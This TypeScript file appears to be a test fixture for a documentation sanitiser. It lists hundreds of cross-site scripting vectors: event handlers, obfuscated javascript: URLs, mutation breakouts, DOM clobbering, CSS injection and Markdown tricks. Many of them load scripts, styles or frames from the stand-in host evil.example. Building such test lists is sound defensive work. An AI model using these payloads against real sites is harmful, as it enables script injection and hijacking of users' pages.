/**
 * Attacks in a doc comment, a README or a doc: unless blocked, they run a script, load from another host, style the
 * page, redirect the reader or imitate the site.
 */

const run = 'top.ran=1;alert(1)'
const host = 'evil.example'
const tags = (list: string, write: (tag: string) => string): string[] => list.split(' ').map(write)

/** Elements with event handlers that run with little or no action of the reader. */
const handlers = [
  ...tags('img video audio image input', (tag) => `<${tag} src=/nope onerror="${run}">x</${tag}>`),
  ...tags('svg body frameset iframe object style script link', (tag) => `<${tag} onload="${run}">x</${tag}>`),
  ...tags(
    'input textarea select button a keygen details',
    (tag) => `<${tag} autofocus tabindex=0 href=/ onfocus=${run}>x</${tag}>`,
  ),
  ...tags(
    'onclick onmouseover onpointerenter onwheel oncopy onpaste oncontextmenu ondragstart ontouchstart onanimationstart ontransitionend onbeforetoggle onscrollend onfocusin onkeydown',
    (name) => `<p ${name}="${run}" tabindex=0>hover me</p>`,
  ),
  `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<video><source onerror="${run}" src=/nope></video>`,
  `<audio src=/nope onerror="${run}" autoplay></audio>`,
  `<dialog open oncancel="${run}" onclose="${run}">x</dialog>`,
  `<div popover id=p onbeforetoggle="${run}">x</div><button popovertarget=p>y</button>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><set onbegin="${run}" attributeName=x></svg>`,
  `<math><mi onclick="${run}" xlink:href="javascript:${run}">x</mi></math>`,
  `<x-y onconnected="${run}" onclick="${run}">x</x-y>`,
  `<img/src=/nope/onerror=${run}>`,
  `<img src=/nope\nonerror\n=\n"${run}">`,
  `<img src=/nope onerror\u000c="${run}">`,
  `<img src=/nope ONERROR='${run}'>`,
  `<img src=/nope onerror=&#116;op.ran=1>`,
  `<img """><script>${run}</script>">`,
  `<img src=/nope alt="\`<img src=/nope onerror=${run}>\`">`,
  `<a title="<img src=/nope onerror=${run}>" href=/>x</a>`,
]

/** Spellings of addresses that run a script or contain a document. */
const spellings = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java&#13;script:${run}`,
  `java&#0;script:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;&#97;&#118;&#97;&#115;cript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript://${host}/%0a${run}`,
  `javascript:/**&#47;${run}`,
  `javascript:"<script>${run}</script>"`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `jar:javascript:${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `data:application/javascript,${run}`,
  `blob:https://${host}/1`,
  `filesystem:https://${host}/1`,
  `file:///etc/passwd`,
  `about:blank#${run}`,
]
const addresses = spellings.flatMap((address) => [
  `<a href="${address.replace(/"/g, '&quot;')}">x</a>`,
  `[x](<${address.replace(/[<>]/g, '\\$&')}>)`,
  `<img src="${address.replace(/"/g, '&quot;')}" alt="x">`,
  `<iframe src="${address.replace(/"/g, '&quot;')}"></iframe>`,
])

/** Markup that a sanitiser may parse as text and a browser as elements. */
const breakout = `<img src=/nope onerror=${run}>`
const mutations = [
  ...tags(
    'noscript title textarea xmp noembed noframes iframe style script',
    (tag) => `<${tag}><p title="</${tag}>${breakout}"></${tag}>`,
  ),
  ...tags('svg math', (tag) => `<${tag}><style><a id="</style>${breakout}"></style></${tag}>`),
  ...tags('svg math', (tag) => `<${tag}></p><style><a id="</style>${breakout}">x</a></${tag}>`),
  ...tags('svg math', (tag) => `<${tag}><title><style><a title="</style></title>${breakout}">x</${tag}>`),
  ...tags(
    'mtext mi mo mn ms annotation-xml',
    (tag) =>
      `<math><${tag}><table><mglyph><style><!--</style><img title="--&gt;${breakout.replace(/</g, '&lt;')}"></table></${tag}></math>`,
  ),
  ...tags('foreignObject desc title', (tag) => `<svg><${tag}><p>${breakout}</p></${tag}></svg>`),
  ...tags(
    'select option optgroup table caption colgroup tr',
    (tag) => `<${tag}><svg><style>${breakout}</style></svg></${tag}>`,
  ),
  `<template><img src=/nope onerror="${run}"></template>`,
  `<template><template></template><script>${run}</script></template>`,
  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<svg><![CDATA[</svg>${breakout}]]></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="//${host}/x.js"></script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/><a id=x><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=/nope onerror='${run}'/></svg>#x"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<p id="</p>${breakout}">x</p>`,
  `<a href="/" title='"${breakout}'>x</a>`,
  `</p>${breakout}<p>`,
  `</div></div></main></body></html><script>${run}</script>`,
  `<b><p><b><p><table><b>${breakout}</table></b>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `<script/x>${run}</script/x>`,
  `<script\u000b>${run}</script>`,
  `<ScRiPt src=//${host}/x.js></sCrIpT>`,
  `<script type=module>import "//${host}/x.js"</script>`,
  `<script type=importmap>{"imports":{"x":"//${host}/x.js"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["https://${host}/"]}]}</script>`,
  `<script nonce="" src="data:,${run}"></script>`,
]

/** Markup that loads or opens something from elsewhere. */
const loads = [
  `<img srcset="https://${host}/a.png 1x, //${host}/b.png 2x" alt="">`,
  `<img src="/nope.png" srcset="//${host}/a.png 9w" sizes="9vw" alt="">`,
  `<img src="http://${host}/a.png" alt="">`,
  `<img lowsrc="//${host}/a.png" dynsrc="//${host}/b.png" alt="">`,
  `<picture><source srcset="//${host}/a.png"><img alt=""></picture>`,
  `<video src="//${host}/a.mp4" poster="//${host}/a.png" autoplay></video>`,
  `<video><track default src="//${host}/a.vtt"></video>`,
  `<audio><source src="//${host}/a.mp3"></audio>`,
  ...tags(
    'stylesheet preload prefetch modulepreload dns-prefetch preconnect icon manifest import prerender',
    (rel) => `<link rel=${rel} as=script href="https://${host}/x">`,
  ),
  ...tags(
    'refresh set-cookie Content-Security-Policy',
    (name) => `<meta http-equiv="${name}" content="0;url=https://${host}/">`,
  ),
  `<meta http-equiv=refresh content="0; url=javascript:${run}">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base href="https://${host}/">`,
  `<base target=_blank>`,
  `<iframe src="https://${host}/"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<frameset><frame src="https://${host}/"></frameset>`,
  `<portal src="https://${host}/"></portal>`,
  `<fencedframe src="https://${host}/"></fencedframe>`,
  `<object data="https://${host}/x.swf" type="text/html"></object>`,
  `<object><param name=src value="//${host}/x"></object>`,
  `<embed src="//${host}/x.svg" type="image/svg+xml">`,
  `<applet code=x codebase="//${host}/"></applet>`,
  `<input type=image src="//${host}/x.png" alt=x>`,
  ...tags('body table td th div', (tag) => `<${tag} background="//${host}/x.png">x</${tag}>`),
  `<svg><image href="//${host}/x.png" width=9 height=9 /></svg>`,
  `<svg><filter id=f><feImage href="//${host}/x.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<a href="/" ping="https://${host}/ping">x</a>`,
  `<q cite="javascript:${run}">x</q>`,
  `<form action="https://${host}/" id=f><input name=a><button>x</button></form>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<button form=f formaction="javascript:${run}">x</button>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<input type=text list=d><datalist id=d><option onclick="${run}">x</datalist>`,
]

/** Markup that changes the page's look, or reads data through styles. */
const styles = [
  `<style>*{display:none}</style>`,
  `<style>@import "//${host}/x.css";</style>`,
  `<style>@font-face{font-family:x;src:url(//${host}/x)}body{font-family:x}</style>`,
  `<style>a[href^="/"]{background:url(//${host}/x)}</style>`,
  `<svg><style>@import "//${host}/x.css";</style></svg>`,
  ...[
    'background:url(//evil.example/x)',
    'position:fixed;inset:0',
    'width:expression(alert(1))',
    '-moz-binding:url(//evil.example/x)',
    'behavior:url(x.htc)',
    'content:"x";--x:url(//evil.example)',
    'animation:x 1s',
  ].map((style) => `<p style='${style}'>x</p>`),
  `<font color=red face="//${host}/x">x</font>`,
  `<p class="navbar skip-link visually-hidden crash">x</p>`,
  `<div hidden class="drawer">x</div>`,
  `<p data-prose data-theme=dark data-ref=0 data-tab-group=x>x</p>`,
]

/** Names that scripts of the page may look up. */
const clobbered =
  'location cookie forms body head scripts documentElement getElementById querySelector createElement __remixContext __remixManifest __remixRouteModules __remixRouter config self top parent name origin localStorage navigation ran then __proto__ constructor'.split(
    ' ',
  )
const clobbering = clobbered.flatMap((name, index) => [
  [
    `<a id="${name}" name="${name}" href="//${host}/">x</a>`,
    `<form name="${name}"><input name="action"></form>`,
    `<img name="${name}" id="${name}" alt="">`,
    `<object id="${name}" name="${name}">x</object>`,
  ][index % 4]!,
  [
    `<p id="${name}">x</p>`,
    `<div id="user-content-${name}"><a id="${name}">x</a></div>`,
    `<iframe name="${name}"></iframe>`,
  ][index % 3]!,
])

/** The same in Markdown syntax. */
const markdown = [
  `![x](http://${host}/x.png)`,
  `![x](https://${host}/x.png)`,
  `[![x](https://${host}/x.png)](https://${host}/y)`,
  `![" onerror="${run}](/nope.png)`,
  `![x](/nope.png "\\" onerror=\\"${run}")`,
  `[x](/a "\\" onclick=\\"${run}")`,
  `[x](/a"onclick="${run})`,
  `[a]: javascript:${run}\n\n[a]`,
  `[x\n]: <java\tscript:${run}>\n\n[x\n]`,
  `<javascript:${run}>`,
  `<data:text/html,x>`,
  `<https://${host}/"onmouseover="${run}">`,
  `https://${host}/"onmouseover="${run}"`,
  `www.${host}/<script>${run}</script>`,
  `<a@b.c"onclick="${run}">`,
  '```"><script>' + run + '</script>\nx\n```',
  '```html title="</figcaption><script>' + run + '</script>"\n<script>' + run + '</script>\n```',
  '~~~js {1}"><img src=/nope onerror=' + run + '>\nx\n~~~',
  '`' + breakout + '`',
  `> ${breakout}`,
  `> [!NOTE]\n> ${breakout}`,
  `- [x] ${breakout}`,
  `| ${breakout} |\n|---|\n| <script>${run}</script> |`,
  `### ${breakout} {#x"onclick="${run}}`,
  `### x {#__remixContext}`,
  `[^${breakout}]: x\n\n[^${breakout}]`,
  `\\${breakout}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `<!-- ${breakout} -->`,
  `<!--><script>${run}</script>-->`,
  `<!---><script>${run}</script>-->`,
  `<!-- --!><script>${run}</script> -->`,
  `<?php ${breakout} ?>`,
  `<!DOCTYPE x [<!ENTITY y "${run}">]>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<%= ${run} %>`,
  `{{constructor.constructor('${run}')()}}`,
  '${' + run + '}',
  `\u2028<script>${run}</script>\u2029`,
  `\u202e${breakout}`,
  `\ufeff<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
]

/** Vectors that leave the following content intact. */
export const vectors: readonly string[] = [
  ...handlers,
  ...addresses,
  ...mutations,
  ...loads,
  ...styles,
  ...clobbering,
  ...markdown,
]

/** Vectors without an end: they may swallow the following content. */
export const unclosed: readonly string[] = [
  ...tags(
    'mglyph malignmark',
    (tag) => `<form><math><mtext></form><form><${tag}><style></math>${breakout}</style></form>`,
  ),
  `<plaintext>${breakout}`,
  `<script>${run}`,
  `<style>@import "//${host}/x.css"`,
  `<textarea>${breakout}`,
  `<title>${breakout}`,
  `<xmp>${breakout}`,
  `<noscript>${breakout}`,
  `<iframe srcdoc="<script>${run}</script>`,
  `<svg><title>${breakout}`,
  `<math><mtext>${breakout}`,
  `<template>${breakout}`,
  `<select><option>${breakout}`,
  `<img src="//${host}/?`,
  `<a href='//${host}/?`,
  `<!-- ${breakout}`,
  `<![CDATA[${breakout}`,
  `<?xml ${breakout}`,
  `<table><tr><td>${breakout}`,
  `<form action="//${host}/"><button>x`,
  '```html\n' + breakout,
]

/** Names that a page with a vector might have lost. */
export const clobberedNames: readonly string[] = clobbered
